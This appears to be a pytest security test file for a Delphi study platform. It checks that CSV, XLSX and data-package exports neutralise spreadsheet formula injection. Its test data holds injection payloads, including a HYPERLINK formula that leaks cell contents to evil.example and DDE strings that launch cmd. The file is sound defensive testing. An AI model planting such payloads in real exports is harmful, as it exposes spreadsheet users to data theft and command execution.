"""No spreadsheet export runs a formula: every CSV the platform produces neutralises texts starting with =, +, -, @
(an apostrophe before them: CSV has no types); every XLSX keeps such texts as they are in cells typed as text
(data type 's', Excel's quote prefix, no visible apostrophe), and no XLSX cell is a formula. Framework exports stay lossless: XLSX
stores such texts as text cells, CSV prefixes the apostrophe that reading the CSV removes again."""
from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook

import framework
from tests.security import world as W
from tests.security.test_access_sweep import client_for

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
PAYLOADS = {"comment": HYPERLINK, "group_a": "+cmd|' /C calc'!A0", "group_b": "@SUM(1+9)*cmd|' /C calc'!A0",
            "evidence": "-2+3+cmd|' /C calc'!A0", "title": "=1+1", "action": "@SUM(A1:A9)", "owner": "+1-1"}


def dangerous(value: object) -> bool:
    """Text a spreadsheet would run as a formula (a plain number such as -0.25 is not)."""
    if not isinstance(value, str) or not value.startswith(FORMULA_START):
        return False
    try:
        float(value)
    except ValueError:
        return True
    return False


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_csv_safe(data: bytes, where: str, expect: tuple[str, ...] = ()) -> None:
    cells = csv_cells(data)
    assert not [c for c in cells if dangerous(c)], f"{where}: {[c for c in cells if dangerous(c)][:3]}"
    for text in expect:
        assert "'" + text in cells, f"{where}: {text!r} is missing (or not neutralised)"


def assert_xlsx_safe(data: bytes, where: str, expect: tuple[str, ...] = ()) -> None:
    cells = xlsx_cells(data)
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas, f"{where}: formula cells {formulas[:3]}"
    risky = [c for c in cells if dangerous(c.value)]
    assert all(c.data_type == "s" for c in risky), f"{where}: {[c.coordinate for c in risky if c.data_type != 's']}"
    assert all(c.quotePrefix for c in risky), f"{where}: {[c.coordinate for c in risky if not c.quotePrefix][:3]}"
    values = [c.value for c in cells]
    for text in expect:
        assert text in values, f"{where}: {text!r} is missing (or changed)"
        assert "'" + text not in values, f"{where}: {text!r} shows an apostrophe"


def test_every_study_and_assessment_spreadsheet_export_neutralises_formulas(app):
    p = PAYLOADS
    w = W.build(app, comment=p["comment"], groups=(p["group_a"], p["group_b"]), evidence=p["evidence"],
                names={"Baseline A": p["title"], "action": p["action"], "owner": p["owner"]})
    organiser, assessor = client_for(app, W.ORGANISER_A, 1), client_for(app, W.ASSESSOR_A, 2)

    def get(client, url: str) -> bytes:
        response = client.get(url)
        assert response.status_code == 200, url
        return response.data

    ratings = (p["comment"], p["group_a"], p["group_b"])
    assert_csv_safe(get(organiser, f"/organiser/studies/{w.study_a}/ratings.csv"), "ratings.csv", ratings)
    assert_xlsx_safe(get(organiser, f"/organiser/studies/{w.study_a}/ratings.xlsx"), "ratings.xlsx", ratings)
    assert_csv_safe(get(organiser, f"/organiser/rounds/{w.round_a1}/results.csv"), "results.csv")
    assert_xlsx_safe(get(organiser, f"/organiser/rounds/{w.round_a1}/results.xlsx"), "results.xlsx",
                     (p["group_a"], p["group_b"]))  # the groups sheet names them
    # Study A's groups are of one person each: the package withholds them unless the panel agreed to publish them.
    package = zipfile.ZipFile(io.BytesIO(get(organiser, f"/organiser/studies/{w.study_a}/data-package.zip")))
    assert p["group_a"] not in package.read("panel.csv").decode()
    with app.app_context():
        from delphi.extensions import db
        from delphi.models import Study

        study = db.session.get(Study, w.study_a)
        study.protocol = {**study.protocol, "publish_panel_attributes": True}
        db.session.commit()
    package = zipfile.ZipFile(io.BytesIO(get(organiser, f"/organiser/studies/{w.study_a}/data-package.zip")))
    for name in package.namelist():
        if name.endswith(".csv"):
            assert_csv_safe(package.read(name), f"data package {name}")
    assert_csv_safe(package.read("ratings.csv"), "data package ratings.csv", ratings)
    assert_csv_safe(package.read("panel.csv"), "data package panel.csv", (p["group_a"], p["group_b"]))
    assert_xlsx_safe(get(assessor, f"/assessor/assessments/{w.assessment_a}/export.xlsx"), "assessment.xlsx",
                     (p["title"], p["evidence"], p["action"], p["owner"]))


def test_framework_exports_run_no_formula_and_give_back_the_same_texts(app):
    from delphi.extensions import db
    from delphi.services.frameworks import editing, versions

    w = W.build(app)
    texts = [HYPERLINK, "+1+1", "-1+1", "@SUM(1,2)", "'=already quoted"]
    with app.app_context():
        draft = versions.find_version(w.framework_slug, w.draft_label)
        editing.update_indicator(draft, w.indicator_code, HYPERLINK, "@guidance", texts)
        editing.retitle(draft, w.domain_code, "=2+2 domain")
        db.session.commit()
        document = versions.to_document(draft)
    organiser = client_for(app, W.ORGANISER_A, 1)
    url = f"/organiser/frameworks/{w.framework_slug}/versions/{w.draft_label}/export"

    exported_csv = organiser.get(url + "/csv").data
    assert_csv_safe(exported_csv, "framework CSV", (HYPERLINK, "+1+1", "-1+1", "@SUM(1,2)", "=2+2 domain"))
    assert "''=already quoted" in csv_cells(exported_csv)
    back = framework.load(exported_csv, "csv", filename="export.csv", name=document.name)
    assert [ind for ind in back.indicators()] == [ind for ind in document.indicators()]
    assert [d.title for d in back.domains] == [d.title for d in document.domains]

    exported_xlsx = organiser.get(url + "/xlsx").data
    cells = xlsx_cells(exported_xlsx)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    risky = [c for c in cells if dangerous(c.value)]
    assert {c.value for c in risky} >= {HYPERLINK, "+1+1", "-1+1", "@SUM(1,2)", "=2+2 domain", "@guidance"}
    assert all(c.data_type == "s" for c in risky)  # stored as text: shown, never run
    assert framework.load(exported_xlsx, "xlsx", filename="export.xlsx") == document  # lossless
